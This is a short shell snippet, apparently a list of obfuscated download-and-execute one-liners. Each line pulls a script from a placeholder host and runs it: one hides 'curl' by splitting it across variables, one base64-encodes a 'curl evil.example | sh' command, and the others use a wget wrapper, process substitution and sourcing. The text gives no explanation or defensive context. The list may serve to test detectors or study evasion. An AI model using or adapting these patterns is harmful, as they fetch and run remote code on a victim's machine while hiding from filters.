c=cu; d=rl; U=http://e.example/i.sh
$c$d -s "$U" -o /tmp/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh
echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo= | base64 -d | sh
bash -c "$(wget -qO- http://e.example)"
sh <(curl -s http://e.example) ; . <(curl -s http://e.example)
